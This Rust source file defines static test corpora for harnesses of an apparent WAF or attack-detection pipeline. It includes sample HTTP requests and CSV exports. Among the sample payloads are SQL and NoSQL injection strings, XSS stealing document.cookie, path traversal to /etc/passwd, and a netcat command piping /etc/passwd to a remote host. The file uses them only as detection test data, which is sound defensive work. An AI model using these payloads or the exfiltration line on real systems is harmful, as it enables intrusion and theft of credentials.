//! Static corpora used across harnesses.
//!
//! Each corpus is a `&'static` slice of representative inputs. The CSV and
//! category corpora mirror the shapes of real scanner exports, normal-traffic
//! exports and curated category files, including the malformed rows and
//! lines the pipeline must tolerate.

/// Raw payloads covering every parser shape, plus awkward inputs.
pub const CORPUS_PAYLOADS: &[&str] = &[
    "GET /api/v1/users?id=42 ",
    "POST /api/login {\"username\": \"admin' --\", \"password\": \"x\"}",
    "PUT /api/items/7?force=true [1,2,3]",
    "DELETE /api/sessions/99",
    "GET http://example.com/search?q=%3Cscript%3E",
    "GET /static/../../../../etc/passwd",
    r#"{"username": {"$gt": ""}, "password": {"$gt": ""}}"#,
    "[{\"op\": \"replace\", \"path\": \"/admin\", \"value\": true}]",
    "id=1%27%20OR%20%271%27=%271",
    "q=shoes&page=2&sort=price",
    "cat /etc/passwd | nc 10.0.0.1 4444",
    "<script>alert(document.cookie)</script>",
    "justatoken",
    "HEAD /index.html",
    "get /lowercase-method",
    "",
    "   ",
    "\u{0}\u{1}binary\u{7f}",
];

/// Scanner/WAF export. Note the NaN cells, the blank method and the row with
/// too many cells (skipped).
pub const ATTACK_CSV: &str = "\
http_method,http_path,http_query,http_headers,rule_id
GET,/api/users,id=1' OR '1'='1,User-Agent: sqlmap/1.7,942100
POST,/api/ping,nan,Content-Type: application/json,932100
,/search,q=<script>alert(1)</script>,NaN,941100
GET,/view,file=../../etc/passwd,,930100
GET,/a,b,c,d,e,f
";

/// Normal-traffic export with a body column.
pub const NORMAL_CSV: &str = "\
Method,Path,Query,Headers,Body
GET,/,,User-Agent: Mozilla/5.0,
GET,/products,page=2,Accept: text/html,
POST,/api/cart,,Content-Type: application/json,\"{\"\"sku\"\": \"\"A-1\"\", \"\"qty\"\": 2}\"
GET,/assets/app.js,v=3,,NULL
";

/// Attack category file: two valid lines, a heading, a blank line and a
/// malformed entry.
pub const ATTACK_CATEGORIES: &str = "\
Attack categories
1. SQL Injection: GET /users?id=1%20UNION%20SELECT%20password%20FROM%20users
2. NoSQL Injection: {\"user\": {\"$ne\": null}}

3 Missing dot: id=1
";

/// Normal category file: one valid line.
pub const NORMAL_CATEGORIES: &str = "\
1. Search: q=running+shoes&page=1
";
